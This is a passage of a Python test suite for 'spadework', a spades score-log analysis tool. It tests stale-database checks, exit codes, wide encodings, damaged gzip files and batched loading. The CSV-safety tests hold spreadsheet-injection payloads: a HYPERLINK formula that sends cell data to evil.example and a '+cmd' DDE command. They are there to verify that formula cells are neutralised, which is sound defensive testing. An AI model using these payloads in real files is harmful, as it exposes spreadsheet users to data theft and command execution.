"""Issue 11 items 5-9: answers a director and a script can trust.

- no silently stale answer: report, stats, the notebooks' loader and the metrics refuse a database
  loaded after its last check (or never checked, or whose check stopped part way), whichever engine
  wrote it;
- CSV output is safe in a spreadsheet and round-trips names exactly;
- exit codes survive a closed pipe, report follows the exit codes, a file named twice is one file;
- logs saved as UTF-16/UTF-32, cut-off gzip files, rejected records grouped by reason, many small
  files loaded in batches with the one-file-at-a-time results;
- the README's SQL runs, the benchmark writes its results file only when asked, simulate names its
  real option.
"""

from __future__ import annotations

import gzip
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from conftest import ROOT
from spadework.analysis.cli import app
from spadework.parsers import db, scoresheet
from spadework.parsers.state import FRESH, MISSING, STALE, NotChecked, derived_state

runner = CliRunner()
DATA = ROOT / "data"
CLEAN = DATA / "club_night.jsonl"  # 8 hands, no finding
RENEGE = DATA / "club_night.spn"  # 7 hands: one renege and one wrong total


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


def cli(*args, **kw) -> subprocess.CompletedProcess:
    """The real command in its own process (``python -m spadework.analysis.cli``)."""
    return subprocess.run([sys.executable, "-m", "spadework.analysis.cli", *map(str, args)], capture_output=True, text=True, **kw)


# --- 5. never a silently stale answer --------------------------------------------------------------


def test_report_after_load_without_check_stops_with_exit_2(tmp_path):
    dbf = tmp_path / "club.duckdb"
    assert run("load", RENEGE, "--db", dbf).exit_code == 0
    r = run("report", "--db", dbf, "--out", tmp_path / "rep")
    assert r.exit_code == 2, r.output
    assert "has not been checked" in r.output and f"run `spadework check --db {dbf}` first" in r.output
    assert not (tmp_path / "rep" / "index.html").exists()
    assert run("check", "--db", dbf).exit_code == 1
    r = run("report", "--db", dbf, "--out", tmp_path / "rep")
    assert r.exit_code == 1, r.output  # the report holds the renege: exit status as check's
    assert "(2 findings)" in r.output
    assert "RENEGE" in (tmp_path / "rep" / "index.html").read_text(encoding="utf-8")


def test_a_load_after_the_check_makes_readers_stop(tmp_path):
    dbf = tmp_path / "club.duckdb"
    run("load", CLEAN, "--db", dbf)
    assert run("check", "--db", dbf).exit_code == 0
    assert run("report", "--db", dbf, "--out", tmp_path / "rep").exit_code == 0
    assert run("load", RENEGE, "--db", dbf).exit_code == 0  # the renege is not checked yet
    for args in (("report", "--db", dbf, "--out", tmp_path / "rep2"), ("stats", "--db", dbf)):
        r = run(*args)
        assert r.exit_code == 2, (args, r.output)
        assert "was loaded after its last check" in r.output and "spadework check --db" in r.output
    assert run("check", "--db", dbf).exit_code == 1
    assert run("report", "--db", dbf, "--out", tmp_path / "rep2").exit_code == 1
    assert run("stats", "--db", dbf).exit_code == 0


def test_stats_on_an_unchecked_database_is_a_sentence_not_a_traceback(tmp_path):
    dbf = tmp_path / "club.duckdb"
    run("load", CLEAN, "--db", dbf)
    p = cli("stats", "--db", dbf)
    assert p.returncode == 2, p.stderr
    assert "Traceback" not in p.stderr + p.stdout
    assert "has not been checked" in p.stderr and "spadework check --db" in p.stderr


def test_stats_on_a_checked_season_without_a_finished_game(tmp_path):
    # 8 hands, no game reaches its target: win_rate has no rows (this printed a traceback)
    dbf = tmp_path / "club.duckdb"
    run("load", CLEAN, "--db", dbf)
    run("check", "--db", dbf)
    r = run("stats", "--db", dbf)
    assert r.exit_code == 0, r.output
    assert "ana" in r.output


def _broken_check(monkeypatch, after_games: int):
    """Make the reference checker fail after ``after_games`` games (a crash half way)."""
    from spadework.analysis.engine import checker

    real = checker.check_game
    calls = {"n": 0}

    def flaky(*a, **kw):
        calls["n"] += 1
        if calls["n"] > after_games:
            raise RuntimeError("the machine went down")
        return real(*a, **kw)

    monkeypatch.setattr(checker, "check_game", flaky)


def test_a_check_that_fails_part_way_leaves_the_database_stale(tmp_path, monkeypatch):
    from spadework.analysis import metrics
    from spadework.analysis.engine.checker import check_db

    con = db.connect(tmp_path / "x.duckdb")
    db.load_files(con, [CLEAN])
    assert derived_state(con) == MISSING
    check_db(con)
    assert derived_state(con) == FRESH
    assert metrics.summary(con)["findings"] == 0
    db.load_files(con, [RENEGE])
    assert derived_state(con) == STALE
    with monkeypatch.context() as m:
        _broken_check(m, after_games=1)
        with pytest.raises(RuntimeError):
            check_db(con)
    assert derived_state(con) == STALE  # the old tables say "0 findings" of a log holding a renege
    with pytest.raises(NotChecked, match="loaded after its last check"):
        metrics.summary(con)
    check_db(con)
    assert derived_state(con) == FRESH
    assert metrics.summary(con)["findings"] == 2


def test_a_first_check_that_fails_part_way_leaves_nothing_to_read(tmp_path, monkeypatch):
    from spadework.analysis.engine.checker import check_db

    con = db.connect(tmp_path / "x.duckdb")
    db.load_files(con, [CLEAN, RENEGE])
    _broken_check(monkeypatch, after_games=2)
    with pytest.raises(RuntimeError):
        check_db(con)
    assert derived_state(con) == MISSING


def test_the_fast_engine_keeps_the_same_state(tmp_path):
    from spadework.analysis.engine.engines import COMPILED

    check_fast, load_fast, validate_fast = COMPILED.check, COMPILED.load, COMPILED.validate

    con = db.connect(tmp_path / "x.duckdb")
    load_fast(con, [CLEAN])
    assert derived_state(con) == MISSING
    check_fast(con)
    assert derived_state(con) == FRESH
    load_fast(con, [DATA / "sample" / "season.jsonl"])
    assert derived_state(con) == STALE
    db.load_files(con, [RENEGE])  # the reference loader after a fast check
    check_fast(con)
    assert derived_state(con) == FRESH
    db.load_files(con, [RENEGE])  # loading the same file again is a load too
    assert derived_state(con) == STALE
    validate_fast(con, [CLEAN])
    assert derived_state(con) == FRESH


def test_check_engines_on_the_command_line_mark_the_check(tmp_path):
    for engine in ("fast", "replay"):
        dbf = tmp_path / f"{engine}.duckdb"
        run("load", RENEGE, "--db", dbf, "--engine", engine)
        assert run("report", "--db", dbf, "--out", tmp_path / engine).exit_code == 2
        run("check", "--db", dbf, "--engine", engine)
        assert run("report", "--db", dbf, "--out", tmp_path / engine).exit_code == 1


def test_the_notebooks_loader_refuses_an_unchecked_database(tmp_path):
    from spadework.analysis import coach

    path = tmp_path / "club.duckdb"
    con = db.connect(path)
    db.load_files(con, [RENEGE])
    con.close()
    with pytest.raises(NotChecked, match=r"run `spadework check --db .*club\.duckdb` first"):
        coach.open_database(path)
    run("check", "--db", path)
    c = coach.open_database(path)
    assert c.execute("SELECT count(*) FROM violations WHERE code = 'RENEGE'").fetchone()[0] == 1
    # a reader's DuckDB keeps to READER_MEMORY_LIMIT (640MB, shown in MiB), not 80% of the machine
    assert c.execute("SELECT current_setting('memory_limit')").fetchone()[0] == "610.3 MiB"
    c.close()


def test_a_database_from_before_the_state_table_is_judged_by_its_contents():
    import metrics_fixture

    from spadework.analysis import metrics

    con = metrics_fixture.build()  # written by hand, like a database of an older spadework
    assert derived_state(con) == FRESH
    assert metrics.summary(con)["findings"] == 3
    con.execute("INSERT INTO hands (game_id, hand, source_file) VALUES ('G9', 1, 'late.jsonl')")
    assert derived_state(con) == STALE
    with pytest.raises(NotChecked):
        metrics.run(con, "hands")
    con.execute("DELETE FROM games")
    assert derived_state(con) == MISSING


def test_a_new_database_is_missing_its_check_until_one_runs(tmp_path):
    """A database no check has completed on is not "clean", even with no hands: a load that read
    nothing (a missing file) or a validate stopped by Ctrl-C left one, and report then said
    "0 findings" with exit 0.  Once checked, an empty database is fresh; one built by hand with
    no state row and no rows is fresh too."""
    from spadework.analysis.engine.checker import check_db
    from spadework.parsers.schema import create_tables

    con = db.connect()
    assert derived_state(con) == MISSING
    check_db(con)
    assert derived_state(con) == FRESH
    by_hand = duckdb.connect()
    create_tables(by_hand)
    assert derived_state(by_hand) == FRESH

    path = tmp_path / "x.duckdb"
    r = runner.invoke(app, ["load", str(tmp_path / "nothing-here.jsonl"), "--db", str(path)])
    assert r.exit_code == 2 and not path.exists()  # a missing log makes no database now
    db.connect(path).close()  # as a load stopped before it read anything leaves it
    r = runner.invoke(app, ["report", "--db", str(path), "--out", str(tmp_path / "r")])
    assert r.exit_code == 2 and "has not been checked" in r.output
    for command in (["stats", "--db", str(path)], ["standings", "--db", str(path)]):
        r = runner.invoke(app, command)
        assert r.exit_code == 2 and "has not been checked" in r.output, (command, r.output)
    assert runner.invoke(app, ["check", "--db", str(path)]).exit_code == 0
    r = runner.invoke(app, ["report", "--db", str(path), "--out", str(tmp_path / "r")])
    assert r.exit_code == 0, r.output


# --- 6. safe CSV output ----------------------------------------------------------------------------

EVIL = {
    "N": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "E": "+cmd|' /C calc'!A0",
    "S": "-2+3",
    "W": "@SUM(1,2)",
}


def _record_with(players: dict[str, str], **changes):
    from dataclasses import replace

    from spadework.parsers.jsonl import load

    rec = next(r for r in load(CLEAN) if not isinstance(r, Exception))
    return replace(rec, players=tuple(players[s] for s in "NESW"), **changes)


def test_convert_to_csv_writes_no_live_formula(tmp_path):
    from spadework.parsers.jsonl import dumps_record

    src = tmp_path / "evil.jsonl"
    src.write_text(dumps_record(_record_with(EVIL, event="=1+1", game_id="-g1")) + "\n", encoding="utf-8")
    assert run("convert", src, tmp_path / "evil.csv").exit_code == 0
    text = (tmp_path / "evil.csv").read_text(encoding="utf-8")
    import csv

    rows = list(csv.reader(text.splitlines()))
    cells = [c for row in rows[1:] for c in row]
    for c in cells:
        if c and c[0] in "=+-@\t\r":
            assert re.fullmatch(r"[+-]?\d+(\.\d*)?", c), f"live formula in the CSV: {c!r}"
    row = dict(zip(rows[0], rows[1]))
    assert row["player_N"] == "'" + EVIL["N"] and row["event"] == "'=1+1" and row["game_id"] == "'-g1"
    assert row["NS_points"].lstrip("-").isdigit()  # numbers stay numbers
    # and back: every name exactly as it was
    assert run("convert", tmp_path / "evil.csv", tmp_path / "back.jsonl").exit_code == 0
    back = json.loads((tmp_path / "back.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert back["players"] == EVIL and back["event"] == "=1+1" and back["game_id"] == "-g1"


@pytest.mark.parametrize(
    "name",
    ["'=already quoted", "''=twice", "'bob", "'", "''", "-70", "+5", "-1.5e3", "=", "@", "a=b", "'-", "\t=x", "'\ttab",
     "\tTabby", " spacey ", "trailing ", "' x", "x\t", " ", "\t", "  "],
)
def test_names_round_trip_through_the_score_sheet(name):
    """Exactly, spaces and tabs at either end included (the README's promise; they were trimmed)."""
    rec = _record_with({"N": name, "E": "x", "S": "y", "W": "z"}, event=name)
    text = scoresheet.dumps([rec])
    (back,) = list(scoresheet.loads(text))
    assert (back.players[0], back.event) == (name, name)


def test_a_hand_typed_sheet_still_has_its_cells_trimmed():
    head = ",".join(scoresheet.REQUIRED_COLUMNS)
    row = " g1 , 1 , N , ana ,bo,cy,di,3,3,3,3,3,3,4,3,,,,,,"
    (rec,) = list(scoresheet.loads(head + "\n" + row + "\n"))
    assert (rec.game_id, rec.players[0], rec.hand) == ("g1", "ana", 1)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.eEab ")), max_size=8))
def test_protect_is_undone_exactly_and_leaves_no_formula(text):
    cell = scoresheet.protect_cell(text)
    assert scoresheet.unprotect_cell(cell) == text
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def test_simulated_score_sheets_are_read_back_as_written(tmp_path):
    out = tmp_path / "season.csv"
    assert run("simulate", "--games", "2", "--out", out).exit_code == 0
    recs = [r for r in scoresheet.load(out)]
    assert recs and all(not isinstance(r, Exception) for r in recs)


# --- 7. exit codes and counts a script can rely on ----------------------------------------------------


def _status_with_closed_pipe(*args) -> int:
    """The exit status of the command when its reader has gone before it writes (`| head -0`)."""
    r, w = os.pipe()
    os.close(r)  # nobody reads: every write fails with EPIPE
    try:
        p = subprocess.run([sys.executable, "-m", "spadework.analysis.cli", *map(str, args)], stdout=w, stderr=subprocess.PIPE)
    finally:
        os.close(w)
    assert b"Traceback" not in p.stderr, p.stderr.decode()
    return p.returncode


def test_a_closed_pipe_keeps_the_exit_status(tmp_path):
    junk = tmp_path / "junk.jsonl"
    junk.write_text("".join(f"not json {i}\n" for i in range(3000)), encoding="utf-8")
    assert cli("validate", junk).returncode == 2
    assert _status_with_closed_pipe("validate", junk) == 2
    assert _status_with_closed_pipe("validate", junk, "--json") == 2
    assert _status_with_closed_pipe("validate", RENEGE) == 1
    assert _status_with_closed_pipe("validate", CLEAN) == 0


def test_a_closed_pipe_on_both_outputs_keeps_the_exit_status(tmp_path):
    missing = tmp_path / "nope.jsonl"  # the error goes to standard error
    r, w = os.pipe()
    os.close(r)
    try:
        p = subprocess.run([sys.executable, "-m", "spadework.analysis.cli", "validate", str(missing)], stdout=w, stderr=w)
    finally:
        os.close(w)
    assert p.returncode == 2


def test_head_gets_the_first_line_and_the_pipeline_the_status(tmp_path):
    junk = tmp_path / "junk.jsonl"
    junk.write_text("".join(f"not json {i}\n" for i in range(3000)), encoding="utf-8")
    script = f'set -o pipefail; "{sys.executable}" -m spadework.analysis.cli validate "{junk}" --json | head -1'
    p = subprocess.run(["bash", "-c", script], capture_output=True, text=True)
    assert p.returncode == 2, p.stderr
    assert p.stdout == "{\n"


def test_a_file_named_twice_is_one_file(tmp_path, monkeypatch):
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "club.jsonl").write_bytes(CLEAN.read_bytes())
    (tmp_path / "link.jsonl").symlink_to(folder / "club.jsonl")
    monkeypatch.chdir(tmp_path)
    r = run("validate", "logs/club.jsonl", "logs/club.jsonl", "./logs/club.jsonl", folder / "club.jsonl", "logs", "logs/../logs/club.jsonl", "link.jsonl")
    assert r.exit_code == 0, r.output
    assert "Loaded 8 hands from 1 file; 0 records rejected" in r.output


# --- 8. input a real user has ----------------------------------------------------------------------

BOMS = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-le": b"\xff\xfe\x00\x00", "utf-32-be": b"\x00\x00\xfe\xff"}


@pytest.mark.parametrize("encoding", list(BOMS))
@pytest.mark.parametrize("source", ["club_night.jsonl", "club_night.spn", "scoresheet.csv"])
def test_wide_encodings_with_a_byte_order_mark_are_read(tmp_path, encoding, source):
    text = (DATA / source).read_text(encoding="utf-8").replace("\n", "\r\n")  # as a Windows tool saves it
    wide = BOMS[encoding] + text.encode(encoding)
    name = f"wide.{source.split('.', 1)[1]}"
    (tmp_path / name).write_bytes(wide)
    with gzip.open(tmp_path / (name + ".gz"), "wb") as f:
        f.write(wide)
    want = json.loads(run("validate", DATA / source, "--json").output)
    for f in (tmp_path / name, tmp_path / (name + ".gz")):
        got = json.loads(run("validate", f, "--json").output)
        assert got["load_errors"] == []
        assert got["files"][0]["hands"] == want["files"][0]["hands"] > 0
        assert got["findings_by_code"] == want["findings_by_code"]
        assert [g["total_ns"] for g in got["games"]] == [g["total_ns"] for g in want["games"]]


def test_wide_encodings_in_the_fast_engine(tmp_path):
    text = CLEAN.read_text(encoding="utf-8")
    (tmp_path / "wide.jsonl").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
    r = run("validate", tmp_path / "wide.jsonl", "--engine", "fast")
    assert r.exit_code == 0, r.output
    assert "Loaded 8 hands from 1 file; 0 records rejected" in r.output


def test_bad_code_units_in_a_utf16_file_are_one_record_error(tmp_path):
    lines = CLEAN.read_text(encoding="utf-8").splitlines(keepends=True)
    body = b"".join(ln.encode("utf-16-le") for ln in lines[:2])
    body += "{\"game_id\": \"x".encode("utf-16-le") + b"\x00\xd8" + '"}\n'.encode("utf-16-le")  # a lone surrogate
    body += b"".join(ln.encode("utf-16-le") for ln in lines[2:])
    (tmp_path / "bad.jsonl").write_bytes(b"\xff\xfe" + body)
    doc = json.loads(run("validate", tmp_path / "bad.jsonl", "--json").output)
    assert doc["files"][0]["hands"] == 8
    assert [(e["source_line"], "invalid text" in e["message"]) for e in doc["load_errors"]] == [(3, True)]


@pytest.mark.parametrize("engine", ["replay", "fast"])
def test_a_cut_off_gzip_names_the_last_good_line_and_keeps_the_hands_before(tmp_path, engine):
    data = (DATA / "sample" / "season.jsonl").read_bytes()
    whole = gzip.compress(data)
    cut = tmp_path / "cut.jsonl.gz"
    cut.write_bytes(whole[: len(whole) // 3])
    r = run("validate", cut, "--json", "--engine", engine)
    assert r.exit_code == 2
    doc = json.loads(r.output)
    (err,) = doc["load_errors"]
    m = re.search(r"the file is cut off or damaged after line ([\d,]+)", err["message"])
    assert m, err["message"]
    last = int(m.group(1).replace(",", ""))
    assert 0 < last < data.count(b"\n")
    assert err["source_line"] == last + 1
    assert doc["files"][0]["hands"] == last  # one hand per line, every line before the damage loaded


def test_corrupt_gzip_data_is_a_load_error_not_a_crash(tmp_path):
    whole = bytearray(gzip.compress(CLEAN.read_bytes() * 3))
    for i in range(len(whole) // 2, len(whole) // 2 + 40):
        whole[i] ^= 0x5A
    (tmp_path / "bad.jsonl.gz").write_bytes(bytes(whole))
    r = run("validate", tmp_path / "bad.jsonl.gz", "--engine", "replay")
    assert r.exit_code == 2
    assert "Traceback" not in r.output
    assert "cannot read the rest of the file" in r.output


def test_rejected_records_are_grouped_by_reason(tmp_path):
    folder = tmp_path / "logs"
    folder.mkdir()
    lines = (DATA / "sample" / "season.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
    (folder / "aaa_all.jsonl").write_text("".join(lines[:60]), encoding="utf-8")
    for i in range(60):  # each hand again in its own file: 60 "already loaded" notices
        (folder / f"dup_{i:03}.jsonl").write_text(lines[i], encoding="utf-8")
    (folder / "zzz_corrupt.jsonl").write_text(lines[100][:50] + "\n", encoding="utf-8")
    r = run("validate", folder)
    assert r.exit_code == 2
    assert "Loaded 60 hands from 62 files; 61 records rejected" in r.output
    assert "  60 x hand N of game '…' is already loaded from …:N; not loaded again" in r.output
    assert f"      {folder.relative_to(Path.cwd()) if folder.is_relative_to(Path.cwd()) else folder}/dup_000.jsonl:1: hand 1 of game" in r.output
    assert "      ... and 58 more like these" in r.output
    assert re.search(r"zzz_corrupt\.jsonl:1: not valid JSON", r.output)  # the one broken file stands out
    section = r.output.split("Rejected records")[1].split("\ngame ")[0]
    assert len(section.splitlines()) == 6  # title, the group (3 lines), the corrupt file
    doc = json.loads(run("validate", folder, "--json").output)
    assert [(g["count"], len(g["examples"])) for g in doc["load_errors_by_reason"]] == [(60, 2), (1, 1)]
    assert len(doc["load_errors"]) == 61


# --- 8. many small files: batched, with the results of loading them one by one ------------------------


def _one_hand_files(folder: Path, n: int) -> list[str]:
    lines = (DATA / "sample" / "season.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)[:n]
    folder.mkdir()
    for i, ln in enumerate(lines):
        (folder / f"h{i:04}.jsonl").write_text(ln, encoding="utf-8")
    return lines


def test_many_small_files_are_written_in_a_few_batches(tmp_path, monkeypatch):
    _one_hand_files(tmp_path / "f", 300)
    calls = {"flush": 0}
    real = db._flush

    def counting(*a, **kw):
        calls["flush"] += 1
        return real(*a, **kw)

    monkeypatch.setattr(db, "_flush", counting)
    con = db.connect()
    summary = db.load_files(con, [tmp_path / "f"])
    assert (summary.hands, len(summary.files), summary.errors) == (300, 300, 0)
    assert calls["flush"] <= 2  # one per file before (300)
    assert con.execute("SELECT count(*) FROM hands").fetchone()[0] == 300


def test_the_fast_engine_loads_small_files_in_batches_too(tmp_path, monkeypatch):
    from spadework.analysis.engine.engines import check_compiled as check_fast
    from spadework.analysis.engine.loader import load_fast

    _one_hand_files(tmp_path / "f", 200)
    (tmp_path / "f" / "h0007.jsonl").write_text("not json\n", encoding="utf-8")
    ref = db.connect()
    db.load_files(ref, [tmp_path / "f"])
    calls = {"flush": 0}
    real = db._flush

    def counting(*a, **kw):
        calls["flush"] += 1
        return real(*a, **kw)

    monkeypatch.setattr(db, "_flush", counting)
    fast = db.connect()
    s = load_fast(fast, [tmp_path / "f"])
    assert (s.hands, s.errors, len(s.files)) == (199, 1, 200)
    assert calls["flush"] <= 2  # one DuckDB pipeline per file before (200 files: minutes)
    for t in ("hands", "plays", "load_errors"):
        q = f"SELECT * FROM {t} ORDER BY ALL"
        assert fast.execute(q).fetchall() == ref.execute(q).fetchall(), t
    from spadework.analysis.engine.checker import check_db

    check_fast(fast)  # the packed rows of the small files are made from the tables
    check_db(ref)
    for t in ("tricks", "violations", "hand_scores", "games"):
        q = f"SELECT * FROM {t} ORDER BY ALL"
        assert fast.execute(q).fetchall() == ref.execute(q).fetchall(), t
    assert fast.execute("SELECT count(*) FROM games").fetchone()[0] > 0


def test_batched_files_keep_one_file_replaces_its_hands(tmp_path):
    lines = _one_hand_files(tmp_path / "f", 20)
    con = db.connect()
    db.load_files(con, [tmp_path / "f"])
    # a file changed and loaded again with the rest: its hand is replaced, nothing duplicated
    changed = json.loads(lines[3])
    changed["event"] = "replayed"
    (tmp_path / "f" / "h0003.jsonl").write_text(json.dumps(changed) + "\n", encoding="utf-8")
    s = db.load_files(con, [tmp_path / "f"])
    assert (s.hands, s.errors) == (20, 0)
    assert con.execute("SELECT count(*), count(DISTINCT (game_id, hand)) FROM hands").fetchone() == (20, 20)
    assert con.execute("SELECT event FROM hands WHERE source_file LIKE '%h0003.jsonl'").fetchone()[0] == "replayed"
    # the same hand in a new file: rejected, naming the file that holds it
    (tmp_path / "f" / "h9999.jsonl").write_text(lines[5], encoding="utf-8")
    s = db.load_files(con, [tmp_path / "f"])
    assert (s.hands, s.errors) == (20, 1)
    (msg,) = [m for (m,) in con.execute("SELECT message FROM load_errors").fetchall()]
    assert re.search(r"hand \d+ of game '.*' is already loaded from .*h0005\.jsonl:1; not loaded again", msg)


def test_batched_load_gives_the_one_by_one_results_when_a_hand_moves(tmp_path):
    """a.jsonl held hands 1 and 2; now b.jsonl holds hand 2 and a.jsonl only hand 1.  Loading b then a,
    one file at a time: b's hand is rejected (a still holds it when b loads), then a is reloaded
    without it.  Loading both in one call (one batch) must give the same tables."""
    lines = (DATA / "sample" / "season.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
    a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"

    def start():
        con = db.connect()
        a.write_text(lines[0] + lines[1], encoding="utf-8")
        db.load_files(con, [a])
        a.write_text(lines[0], encoding="utf-8")
        b.write_text(lines[1], encoding="utf-8")
        return con

    def outcome(con):
        rows = con.execute("SELECT source_file, hand FROM hands ORDER BY ALL").fetchall()
        errs = con.execute("SELECT source_file, source_line, message FROM load_errors ORDER BY ALL").fetchall()
        return rows, errs

    ref = start()
    db.load_files(ref, [b])
    db.load_files(ref, [a])
    batched = start()
    db.load_files(batched, [b, a])
    assert outcome(batched) == outcome(ref)
    assert len(outcome(ref)[1]) == 1 and "already loaded from" in outcome(ref)[1][0][2]
    # the other order: a (without the hand) first, then b takes it without a clash
    ref2 = start()
    db.load_files(ref2, [a])
    db.load_files(ref2, [b])
    batched2 = start()
    db.load_files(batched2, [a, b])
    assert outcome(batched2) == outcome(ref2)
    assert outcome(ref2)[1] == []


def test_a_crash_part_way_through_a_batch_leaves_those_files_as_they_were(tmp_path):
    _one_hand_files(tmp_path / "f", 10)
    con = db.connect()
    db.load_files(con, [tmp_path / "f" / "h0000.jsonl"])
    before = con.execute("SELECT count(*) FROM hands").fetchone()[0]

    def boom(items):
        yield from items
        raise RuntimeError("disk gone")

    from spadework.parsers import formats

    real = formats.load
    calls = {"n": 0}

    def flaky(*a, **kw):
        calls["n"] += 1
        items = real(*a, **kw)
        return boom(items) if calls["n"] == 5 else items

    formats.load = flaky
    try:
        with pytest.raises(RuntimeError):
            db.load_files(con, [tmp_path / "f"])
    finally:
        formats.load = real
    assert con.execute("SELECT count(*) FROM hands").fetchone()[0] == before


# --- 9. small ones ---------------------------------------------------------------------------------


def _readme_sql() -> list[str]:
    return re.findall(r"```sql\n(.*?)```", (ROOT / "README.md").read_text(encoding="utf-8"), re.S)


@pytest.fixture(scope="module")
def sample_db():
    from spadework.analysis.sample import build_sample_db

    old = os.getcwd()
    os.chdir(ROOT)
    try:
        path = build_sample_db()
    finally:
        os.chdir(old)
    con = duckdb.connect(str(path), read_only=True)
    yield con
    con.close()


def test_every_sql_example_of_the_readme_runs_on_the_sample(sample_db):
    blocks = _readme_sql()
    assert blocks, "the README has SQL examples"
    for sql in blocks:
        rows = sample_db.execute(sql).fetchall()
        assert rows, sql


def test_who_reneges_most_counts_every_seat(sample_db):
    (sql,) = [b for b in _readme_sql() if "reneges most" in b]
    rows = sample_db.execute(sql).fetchall()
    total, by_seat = sample_db.execute(
        "SELECT count(*), count(DISTINCT seat) FROM violations WHERE code = 'RENEGE'"
    ).fetchone()
    assert by_seat > 1  # the sample's reneges are at several seats
    assert sum(n for _, n in rows) == total  # every renege is counted, whatever the seat
    expected = dict(
        sample_db.execute(
            "SELECT CASE v.seat WHEN 'N' THEN player_n WHEN 'E' THEN player_e WHEN 'S' THEN player_s ELSE player_w END,"
            " count(*) FROM violations v JOIN hands h USING (game_id, hand) WHERE code = 'RENEGE' GROUP BY 1"
        ).fetchall()
    )
    assert dict(rows) == expected
    assert rows == sorted(rows, key=lambda r: (-r[1], r[0]))


def _bench_module():
    import importlib.util

    spec = importlib.util.spec_from_file_location("bench_validate_under_test", ROOT / "tests" / "benchmarks" / "bench_validate.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def test_bench_writes_the_tracked_results_only_when_asked(tmp_path, monkeypatch, capsys):
    mod = _bench_module()
    results = tmp_path / "results.md"
    monkeypatch.setattr(mod, "RESULTS", results)
    monkeypatch.setattr(mod, "run_benchmark", lambda *a, **kw: {"ratios": {"x": 1.0}, "targets": {"y": True}})
    monkeypatch.setattr(mod, "format_results", lambda result, command: f"run: {command}\n")
    assert mod.main(["--hands", "10"]) == 0
    assert not results.exists()
    assert mod.main(["--hands", "10", "--record"]) == 0
    assert "--record" in results.read_text(encoding="utf-8")
    r = run("bench", "--help-script")
    assert "--record" in r.output and "--no-results" not in r.output
    assert "--record" in run("bench", "--help").output


def test_bench_db_floor_times_duckdb_reading_and_writing_the_checked_rows(tmp_path):
    """The benchmark's db_floor stage reads every stored hand and writes every derived row once."""
    mod = _bench_module()
    log, path = tmp_path / "s.jsonl", tmp_path / "s.duckdb"
    assert run("simulate", "--games", "3", "--seed", "4", "--out", log, "-q").exit_code == 0
    assert run("validate", log, "--db", path, "-q").exit_code in (0, 1)
    con = duckdb.connect(str(path), read_only=True)
    hands = con.execute("SELECT count(*) FROM hand_records").fetchone()[0]
    derived = sum(con.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("checked_tricks", "hand_scores", "games", "violations"))
    con.close()
    out = mod._stage_db_floor({"db": str(path), "threads": 1})
    assert (out["hands"], out["rows"]) == (hands, derived) and hands > 20
    assert out["seconds"] == pytest.approx(out["steps"]["read"] + out["steps"]["write"])
    stage = {"best": 1.0, "median": 1.0, "hands_per_s": 10.0, "rss_mb": 1.0, **out}
    os_stage = {"best": 1.0, "median": 1.0, "hands_per_s": 5.0, "rss_mb": 1.0, "hands": hands}
    ratios, _ = mod._ratios({"db_floor@2": stage, "openspiel_deserialize@1": os_stage, "check@2": stage}, (2,))
    assert ratios["DuckDB's read and write alone (db_floor) hands/s / OpenSpiel deserialize hands/s"] == 2.0
    result = {"date": "d", "hands": hands, "file_bytes": 1, "reps": 1, "memory_limit": "1MB", "fault_rate": 0.0,
              "machine": {"cores": 2, "memory_gib": 1, "platform": "p", "python": "3", "duckdb": "x", "commit": "c",
                          "load_average": None}, "stages": {"db_floor@2": stage}, "ratios": ratios, "targets": {}}  # fmt: skip
    assert "| db_floor | 2 |" in mod.format_results(result, "cmd")


def test_simulate_names_its_real_format_option(tmp_path):
    r = run("simulate", "--games", "1", "--out", tmp_path / "x.txt")
    assert r.exit_code == 2
    assert "--format" in r.output and "pass fmt" not in r.output
    assert not (tmp_path / "x.txt").exists()
    assert run("simulate", "--games", "1", "--out", tmp_path / "x.txt", "--format", "spn").exit_code == 0


def test_derived_tables_written_by_an_older_version_ask_for_a_new_check(tmp_path):
    # a database checked before violations had its player column: readers must not fail on a
    # missing column, they must say to run the check again
    from spadework.analysis.engine.checker import check_db
    from spadework.parsers.state import OUTDATED, require_checked

    dbf = tmp_path / "old.duckdb"
    con = db.connect(dbf)
    db.load_files(con, [DATA / "club_night.jsonl"])
    check_db(con)
    assert derived_state(con) == "fresh"
    con.execute("ALTER TABLE violations DROP COLUMN player")
    assert derived_state(con) == OUTDATED
    with pytest.raises(NotChecked, match=r"checked by an older spadework.*spadework check --db"):
        require_checked(con)
    check_db(con)  # the check recreates the derived tables
    assert derived_state(con) == "fresh"


def _block_split(text: str, marker: str, k: int) -> tuple[str, str]:
    """``text`` cut at the blank line before the ``k``-th line starting with ``marker``."""
    lines = text.splitlines(keepends=True)
    starts = [i for i, line in enumerate(lines) if line.startswith(marker)]
    i = starts[k - 1]
    while i > 0 and lines[i - 1].strip():
        i -= 1
    return "".join(lines[:i]), "".join(lines[i:])


def _line_split(text: str, k: int) -> tuple[str, str]:
    lines = text.splitlines(keepends=True)
    return "".join(lines[:k]), "".join(lines[k:])


def _sheet_waiting_for_its_rules() -> str:
    """A score sheet whose first game names its rules only on its last row (the rows before wait)."""
    lines = (DATA / "scoresheet.csv").read_text(encoding="utf-8").splitlines()
    game = [i for i, line in enumerate(lines) if line.startswith(lines[1].split(",")[0] + ",")]
    out = [lines[0] + ",rules"] + [line + ("," + "standard" if i == game[-1] else ",") for i, line in enumerate(lines[1:], 1)]
    return "\n".join(out) + "\n"


def _cut_off_cases():
    from spadework.parsers import spn
    from spadework.parsers.formats import load

    clean = CLEAN.read_text(encoding="utf-8")
    fixtures = ROOT / "tests" / "fixtures"
    cases = {
        "jsonl": ("cut.jsonl", _line_split(clean, 5)),
